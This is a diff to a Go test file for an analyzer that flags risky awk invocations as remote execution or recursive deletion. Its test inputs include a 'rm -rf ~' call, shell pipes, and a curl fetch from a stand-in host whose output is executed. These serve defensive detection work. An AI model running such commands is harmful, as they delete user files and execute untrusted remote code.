@@ -218,6 +218,9 @@ func TestAwkCalls(t *testing.T) {
 		{cmd: `awk '{print | $1}' f`, want: []string{"remote-exec"}},
 		{cmd: `awk -v c=sh 'BEGIN{c="ls"; print "id" | c}'`, want: []string{"remote-exec"}},
 		{cmd: `awk 'BEGIN{c="ls"; print "id" | c}' c=sh`, want: []string{"remote-exec"}},
+		{cmd: `awk -bvc=sh 'BEGIN{if (0) c="ls"; print "id" | c}'`, want: []string{"remote-exec"}},
+		{cmd: `awk --assign=c=sh 'BEGIN{if (0) c="ls"; print "id" | c}'`, want: []string{"remote-exec"}},
+		{cmd: `awk -f lib.awk -e 'BEGIN{if (0) c="ls"; print "id" | c}'`, want: []string{"remote-exec"}},
 		{cmd: `gawk 'BEGIN{"cmd" |& getline}'`, want: []string{"remote-exec"}},
 		{cmd: `awk 'BEGIN {system("rm -rf ~")}'`, want: []string{"recursive-delete", "remote-exec"}},
 		{cmd: `gawk 'BEGIN { "curl -s https://x.example/p" | getline c; system(c) }'`, want: []string{"remote-exec"}},
@@ -555,4 +558,24 @@ func FuzzParseAwk(f *testing.F) {
 			checkAgainstMawk(t, prog)
 		}
 	})
+}
+
+func BenchmarkParseAwk(b *testing.B) {
+	prog := `BEGIN { FS = ":"; c = "sort -k2" } $3 > 1000 && /foo|bar/ { n[$1]++; print $1, $3 | c } END { for (k in n) printf "%s %d\n", k, n[k] > "out.txt"; close(c) }`
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		s, err := parseAwk(prog)
+		if err != nil {
+			b.Fatal(err)
+		}
+		s.resolve(nil, nil)
+	}
+}
+
+func BenchmarkAnalyzeAwk(b *testing.B) {
+	cmd := `awk -F: '$3 > 1000 && /foo|bar/ { n[$1]++ } END { for (k in n) print k, n[k] }' /etc/passwd`
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		Analyze(cmd, corpusOptions)
+	}
 }
